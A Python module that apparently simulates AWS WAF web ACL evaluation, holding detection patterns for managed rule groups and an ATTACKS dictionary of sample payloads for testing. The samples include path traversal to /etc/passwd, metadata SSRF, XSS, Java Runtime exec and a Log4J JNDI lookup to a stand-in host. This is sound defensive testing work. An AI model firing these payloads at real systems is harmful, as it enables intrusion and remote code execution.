"""Evaluates the rules of a web ACL on requests, as AWS WAF does: exactly the statements that the program uses.

Sources: AWS WAF Developer Guide, "Baseline rule groups" (version of 2026-09), "Using rate-based rule statements",
"AWS WAF web ACL capacity units (WCUs) in AWS WAF"; API Reference, ManagedRuleGroupStatement.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, Final

INSPECTED: Final = 8 * 1024  # bytes of a body that AWS WAF inspects behind an Application Load Balancer
_XSS, _LFI, _RFI, _METADATA = "<script", "../../", r"(https?|ftps?|file)://\d+\.\d+\.\d+\.\d+", "169.254.169.254"
_JAVA, _LOG4J, _REACT = "java.lang.Runtime", "${jndi:", '"$1:__proto__'


@dataclass(frozen=True)
class Request:
    """A request of a client."""

    path: str
    query: str = ""
    method: str = "GET"
    headers: Mapping[str, str] = field(default_factory=lambda: {"user-agent": "Mozilla/5.0", "host": "a.example.com"})
    body: bytes = b""
    address: str = "203.0.113.7"

    @property
    def inspected(self) -> str:
        """The part of the body that AWS WAF inspects."""
        return self.body[:INSPECTED].decode("latin-1")

    def header(self, name: str) -> str:
        return self.headers.get(name, "")


def _in(get: Callable[[Request], str], text: str) -> Callable[[Request], bool]:
    return lambda request: text in get(request)


def _like(get: Callable[[Request], str], pattern: str) -> Callable[[Request], bool]:
    return lambda request: re.search(pattern, get(request)) is not None


def _body(request: Request) -> str:
    return request.inspected


def _query(request: Request) -> str:
    return request.query


def _path(request: Request) -> str:
    return request.path


def _cookie(request: Request) -> str:
    return request.header("cookie")


def _headers(request: Request) -> str:
    return " ".join(f"{name} {value}" for name, value in request.headers.items())


# The rules of each group: name -> whether a request matches, by AWS's examples. The real patterns are not published.
Rules = Mapping[str, Callable[[Request], bool]]
_EXTENSION: Final = r"\.(log|ini)\b"
GROUPS: Final[Mapping[str, tuple[str, int, Rules]]] = {
    "AWSManagedRulesCommonRuleSet": (
        "core-rule-set",
        700,
        {
            "NoUserAgent_HEADER": lambda request: not request.header("user-agent"),
            "UserAgent_BadBots_HEADER": lambda request: request.header("user-agent") in ("nessus", "nmap"),
            "SizeRestrictions_QUERYSTRING": lambda request: len(request.query) > 2048,
            "SizeRestrictions_Cookie_HEADER": lambda request: len(_cookie(request)) > 10_240,
            "SizeRestrictions_BODY": lambda request: len(request.body) > INSPECTED,
            "SizeRestrictions_URIPATH": lambda request: len(request.path) > 1024,
            "EC2MetaDataSSRF_BODY": _in(_body, _METADATA),
            "EC2MetaDataSSRF_COOKIE": _in(_cookie, _METADATA),
            "EC2MetaDataSSRF_URIPATH": _in(_path, _METADATA),
            "EC2MetaDataSSRF_QUERYARGUMENTS": _in(_query, _METADATA),
            "GenericLFI_QUERYARGUMENTS": _in(_query, _LFI),
            "GenericLFI_URIPATH": _in(_path, _LFI),
            "GenericLFI_BODY": _in(_body, _LFI),
            "RestrictedExtensions_URIPATH": _like(_path, _EXTENSION),
            "RestrictedExtensions_QUERYARGUMENTS": _like(_query, _EXTENSION),
            "GenericRFI_QUERYARGUMENTS": _like(_query, _RFI),
            "GenericRFI_BODY": _like(_body, _RFI),
            "GenericRFI_URIPATH": _like(_path, _RFI),
            "CrossSiteScripting_COOKIE": _in(_cookie, _XSS),
            "CrossSiteScripting_QUERYARGUMENTS": _in(_query, _XSS),
            "CrossSiteScripting_BODY": _in(_body, _XSS),
            "CrossSiteScripting_URIPATH": _in(_path, _XSS),
        },
    ),
    "AWSManagedRulesKnownBadInputsRuleSet": (
        "known-bad-inputs",
        200,
        {
            "JavaDeserializationRCE_HEADER": _in(_headers, _JAVA),
            "JavaDeserializationRCE_BODY": _in(_body, _JAVA),
            "JavaDeserializationRCE_URIPATH": _in(_path, _JAVA),
            "JavaDeserializationRCE_QUERYSTRING": _in(_query, _JAVA),
            "Host_localhost_HEADER": lambda request: "localhost" in request.header("host"),
            "PROPFIND_METHOD": lambda request: request.method == "PROPFIND",
            "ExploitablePaths_URIPATH": lambda request: "web-inf" in request.path.lower(),
            "Log4JRCE_HEADER": _in(_headers, _LOG4J),
            "Log4JRCE_QUERYSTRING": _in(_query, _LOG4J),
            "Log4JRCE_BODY": _in(_body, _LOG4J),
            "Log4JRCE_URIPATH": _in(_path, _LOG4J),
            "ReactJSRCE_BODY": _in(_body, _REACT),
        },
    ),
}
# An attack in a body, by the rule that matches it.
ATTACKS: Final[Mapping[str, bytes]] = {
    "SizeRestrictions_BODY": b"a" * (INSPECTED + 1),
    "EC2MetaDataSSRF_BODY": b"url=http%3A//169.254.169.254/latest",
    "GenericLFI_BODY": b"file=../../etc/passwd",
    "GenericRFI_BODY": b"url=http://198.51.100.1/a.php",
    "CrossSiteScripting_BODY": b"<script>alert('hello')</script>",
    "JavaDeserializationRCE_BODY": b"(java.lang.Runtime).getRuntime().exec('whoami')",
    "Log4JRCE_BODY": b"${jndi:ldap://example.com/}",
    "ReactJSRCE_BODY": b'{"then": "$1:__proto__:then"}',
}


class Evaluator:
    """A web ACL, and the requests of the last five minutes."""

    def __init__(self, registered: Mapping[str, Any]) -> None:
        """Takes the inputs of an `aws.wafv2.WebAcl`."""
        assert registered["defaultAction"] == {"allow": {}}
        self._rules: list[Any] = sorted(registered["rules"], key=lambda rule: rule["priority"])
        self._seen: Counter[tuple[str, str]] = Counter()

    def blocked_by(self, request: Request) -> str | None:
        """Returns the name of the rule that blocks a request, or None if the web ACL lets it through."""
        labels: set[str] = set()
        for rule in self._rules:
            managed = rule["statement"].get("managedRuleGroupStatement")
            if managed:
                assert rule["overrideAction"] == {"none": {}}
                blocks = _managed(managed, request, labels)
            else:
                assert rule["action"] == {"block": {}}
                blocks = self._matches(rule["statement"], request, labels, rule["name"])
            if blocks:
                return str(rule["name"])
        return None

    def _matches(self, statement: Mapping[str, Any], request: Request, labels: set[str], rule: str = "") -> bool:
        [(kind, content)] = statement.items()
        match kind:
            case "andStatement":
                return all(self._matches(part, request, labels) for part in content["statements"])
            case "orStatement":
                return any(self._matches(part, request, labels) for part in content["statements"])
            case "notStatement":
                return not self._matches(content["statement"], request, labels)
            case "labelMatchStatement":
                assert content["scope"] == "LABEL"
                return content["key"] in labels
            case "regexMatchStatement":
                assert content["textTransformations"] == [{"priority": 0, "type": "NONE"}]
                part = {"uriPath": request.path, "queryString": request.query}[next(iter(content["fieldToMatch"]))]
                return re.search(content["regexString"], part) is not None
            case "rateBasedStatement":
                return self._exceeds(content, request, labels, rule)
            case _:
                raise NotImplementedError(kind)

    def _exceeds(self, content: Mapping[str, Any], request: Request, labels: set[str], rule: str) -> bool:
        assert (content["aggregateKeyType"], content["evaluationWindowSec"]) == ("IP", 300)
        if "scopeDownStatement" in content and not self._matches(content["scopeDownStatement"], request, labels):
            return False
        self._seen[rule, request.address] += 1
        return self._seen[rule, request.address] > content["limit"]


def _managed(content: Mapping[str, Any], request: Request, labels: set[str]) -> bool:
    """Returns whether a rule group of AWS blocks the request, and adds its labels."""
    assert content["vendorName"] == "AWS"
    namespace, _, rules = GROUPS[content["name"]]
    counted = {one["name"] for one in content["ruleActionOverrides"] if one["actionToUse"] == {"count": {}}}
    # AWS WAF ignores an override of an unknown rule silently.
    assert counted <= rules.keys()
    assert len(counted) == len(content["ruleActionOverrides"])
    for name, matches in rules.items():
        if matches(request):
            labels.add(f"awswaf:managed:aws:{namespace}:{name.replace('_BODY', '_Body')}")
            if name not in counted:
                return True
    return False


def capacity(rules: Sequence[Mapping[str, Any]]) -> int:
    """Returns the capacity units of rules."""
    return sum(_capacity(rule["statement"]) for rule in rules)


def _capacity(statement: Mapping[str, Any]) -> int:
    [(kind, content)] = statement.items()
    match kind:
        case "andStatement" | "orStatement":
            return sum(_capacity(part) for part in content["statements"])
        case "notStatement":
            return _capacity(content["statement"])
        case "labelMatchStatement":
            return 1
        case "regexMatchStatement":
            return 3
        case "rateBasedStatement":
            return 2 + (_capacity(content["scopeDownStatement"]) if "scopeDownStatement" in content else 0)
        case "managedRuleGroupStatement":
            return GROUPS[content["name"]][1]
        case _:
            raise NotImplementedError(kind)
